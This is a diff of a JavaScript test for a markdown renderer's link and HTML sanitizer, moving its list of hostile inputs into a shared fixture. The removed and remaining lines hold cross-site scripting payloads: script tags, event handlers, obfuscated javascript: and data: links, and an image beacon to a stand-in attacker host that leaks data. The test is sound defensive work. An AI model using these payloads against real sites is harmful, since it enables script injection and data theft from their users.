@@ -2,6 +2,7 @@
 import test from "node:test";
 import assert from "node:assert/strict";
 import { parseMarkdown, parseInline, safeHref } from "../src/theme/LecternPanel/markdown.mjs";
+import { HOSTILE_LINES } from "../../../tests/fixtures/hostile-answer.mjs";
 
 const walk = (nodes, out = []) => {
   for (const n of nodes) {
@@ -75,17 +76,9 @@ function assertSafe(blocks, label) {
   }
 }
 
-// The Chromium e2e test's hostile answer (tests/e2e/chat.test.mjs), and more.
+// The Chromium e2e test's hostile answer (tests/fixtures/hostile-answer.mjs), and more.
 const HOSTILE = [
-  'Here is <img src=x onerror="window.__pwned=1"> an image and <script>window.__pwned=2</script> a script [1].',
-  "",
-  "[click me](javascript:window.__pwned=3) [data](data:text/html,<script>parent.__pwned=4</script>) [mixed](JaVa%09ScRiPt:window.__pwned=5) [tab](java\tscript:window.__pwned=6) [entity](&#106;avascript:window.__pwned=7) [fine](https://example.org/)",
-  "",
-  '<a href="javascript:window.__pwned=8">raw anchor</a> <iframe src="javascript:window.__pwned=9"></iframe> <svg onload="window.__pwned=10"></svg>',
-  "",
-  "![pixel](http://attacker.invalid/p.png?leak=1) <style>body{display:none}</style>",
-  "",
-  "```html\n<script>window.__pwned=11</script>\n```",
+  ...HOSTILE_LINES,
   "",
   "<script>window.__pwned=12</script>",
   "",
